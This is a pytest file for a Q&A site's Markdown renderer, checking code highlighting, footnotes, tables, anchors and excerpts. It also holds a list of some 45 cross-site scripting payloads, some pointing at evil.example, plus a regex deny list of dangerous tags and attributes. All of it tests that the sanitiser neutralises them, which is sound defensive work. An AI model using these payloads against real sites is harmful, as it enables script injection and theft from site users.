"""The Markdown pipeline (SPEC §4): features that must work and input that must not execute."""

import html as html_lib
import re

import markdown
import pytest

from qa.markdown import excerpt, plain_text, render_markdown


def test_empty_source_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown("  \n\t ") == ""


def test_fenced_code_is_highlighted_with_css_classes_not_inline_styles():
    html = render_markdown("```python\ndef invert(x):\n    return 255 - x\n```")
    assert '<div class="highlight">' in html
    assert '<span class="k">def</span>' in html
    assert 'class="nf"' in html
    assert "style=" not in html


def test_fence_language_is_shown_as_a_label():
    html = render_markdown("```java\nint x = 1;\n```")
    assert '<span class="filename">java</span>' in html


def test_code_block_shows_html_as_text_and_never_executes_it():
    html = render_markdown("```html\n<script>alert('x')</script>\n<b>bold</b>\n```")
    assert "<script" not in html
    assert "<b>" not in html
    assert "&lt;" in html and "alert" in html


def test_inline_code_shows_markup_as_text():
    html = render_markdown("用 `<img src=x onerror=alert(1)>` 演示")
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in html
    assert "<img" not in html


def test_indented_code_block_is_code():
    html = render_markdown("说明：\n\n    <script>alert(1)</script>\n")
    assert "<pre>" in html and "&lt;script&gt;" in html
    assert "<script" not in html


def test_footnotes_link_both_ways():
    html = render_markdown("灰度公式[^1]。\n\n[^1]: ITU-R 601-2 亮度转换。")
    assert '<sup id="fnref:1">' in html
    assert 'href="#fn:1"' in html
    assert '<li id="fn:1">' in html
    assert 'href="#fnref:1"' in html
    assert "ITU-R 601-2 亮度转换。" in html


def test_tables_use_align_attribute_not_style():
    html = render_markdown("| 模式 | 公式 |\n|:--|--:|\n| gray | 255 - S |\n")
    assert "<table>" in html and "<th" in html and "<td" in html
    assert 'align="left"' in html and 'align="right"' in html
    assert "style=" not in html


def test_headings_get_unicode_anchors():
    html = render_markdown("## 灰度反色 原理\n\n## Python Example")
    assert '<h2 id="灰度反色-原理">' in html
    assert 'href="#灰度反色-原理"' in html
    assert '<h2 id="python-example">' in html


def test_repeated_headings_get_distinct_anchors():
    html = render_markdown("## 步骤\n\n## 步骤\n")
    assert 'id="步骤"' in html and 'id="步骤_1"' in html


def test_safe_links_and_images_survive():
    html = render_markdown("[文档](https://example.com/a?b=1) ![图](/static/img/favicon.svg) <mailto:a@b.cn>")
    assert 'href="https://example.com/a?b=1"' in html
    assert 'src="/static/img/favicon.svg"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_plain_text_and_excerpt_drop_markup_and_decorations():
    html = render_markdown("## 标题\n\n正文**加粗**[^1]\n\n[^1]: 注释")
    assert plain_text(html) == "标题 正文加粗"
    long_html = render_markdown("字" * 400)
    cut = excerpt(long_html, 300)
    assert len(cut) == 301 and cut.endswith("…")


# Each payload tries a different way to get script running or to smuggle in
# active or styled content; none of them may survive the pipeline.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](&#106;avascript:alert(1))",
    "![图](javascript:alert(1))",
    "[ref][r]\n\n[r]: javascript:alert(1)",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;top:0">overlay</span>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<img src=x onerror=alert(1)",
    '<a href="#" onclick="alert(1)"',
    "<!--<img src=x onerror=alert(1)>-->",
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    '<input autofocus onfocus="alert(1)">',
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example/" target="_blank" formaction="javascript:alert(1)">x</a>',
]

# Tags that can run script, load active content, submit data, restyle the page
# or change how later URLs resolve. <math> itself is allowed (formulas), but not
# the MathML elements that can carry HTML or actions.
_DANGEROUS_TAG = re.compile(
    r"<\s*/?\s*(script|iframe|frame|form|input|button|textarea|object|embed|style|link|meta|base|svg|"
    r"annotation-xml|maction|mglyph|video|audio|source|details|template|noscript|body|select)\b",
    re.IGNORECASE,
)
_EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
_STYLE_ATTRIBUTE = re.compile(r"<[^>]*\sstyle\s*=", re.IGNORECASE)
_URL_ATTRIBUTE = re.compile(
    r"""\s(?:href|src|xlink:href|action|formaction)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]*))""", re.I
)


def assert_harmless(html: str) -> None:
    assert not _DANGEROUS_TAG.search(html), html
    assert not _EVENT_HANDLER.search(html), html
    assert not _STYLE_ATTRIBUTE.search(html), html
    for groups in _URL_ATTRIBUTE.findall(html):
        # Browsers decode entities and ignore whitespace and controls inside a scheme.
        url = re.sub(r"[\x00-\x20]", "", html_lib.unescape("".join(groups)))
        scheme = url.split(":", 1)[0].lower() if ":" in url else ""
        assert scheme in {"", "http", "https", "mailto"}, html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_rendered_harmless(payload):
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_surrounding_markdown_is_harmless(payload):
    assert_harmless(render_markdown(f"# 标题\n\n前文 **加粗**\n\n{payload}\n\n- 列表项 {payload}\n"))


def test_sanitiser_keeps_the_text_of_harmless_markup():
    html = render_markdown('<p style="color:red" onclick="x()">可见文字</p>')
    assert "可见文字" in html
    assert_harmless(html)


def test_no_inline_style_from_any_feature():
    source = (
        "# 标题\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
        "脚注[^n]\n\n[^n]: 说明\n\n*[HTML]: HyperText\n\nHTML 术语\n"
    )
    assert "style=" not in render_markdown(source)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_checker_flags_each_payload_when_not_sanitised(payload):
    """Proves the assertions above have teeth: without nh3 every payload is caught."""
    caught = 0
    for unsanitised in (payload, markdown.markdown(payload)):
        try:
            assert_harmless(unsanitised)
        except AssertionError:
            caught += 1
    assert caught


def test_code_without_a_language_gets_no_label():
    html = render_markdown("```\nplain\n```\n\n    indented\n")
    assert 'class="filename"' not in html
    assert html.count("<pre>") == 2


def test_committed_pygments_stylesheet_matches_the_generator():
    """static/css/pygments.css is generated; a Pygments upgrade must regenerate it."""
    from pathlib import Path

    from django.conf import settings

    from qa.markdown import site_pygments_css

    committed = (Path(settings.BASE_DIR) / "static/css/pygments.css").read_text()
    assert committed == site_pygments_css()


def test_excerpt_reads_as_prose_without_code_or_table_cells():
    html = render_markdown(
        "## 现象\n\n学习率太大时 loss 震荡。\n\n| 现象 | 原因 |\n|---|---|\n| 震荡 | 步长大 |\n\n"
        "```python\nlr = 0.1\n```\n\n所以要先小后大。"
    )
    text = excerpt(html)
    assert text.startswith("现象 · 学习率太大时 loss 震荡。")
    assert "所以要先小后大。" in text
    assert "步长大" not in text and "lr = 0.1" not in text


def test_excerpt_of_an_answer_that_is_only_code_falls_back_to_the_code():
    assert "print" in excerpt(render_markdown("```python\nprint(1)\n```"))
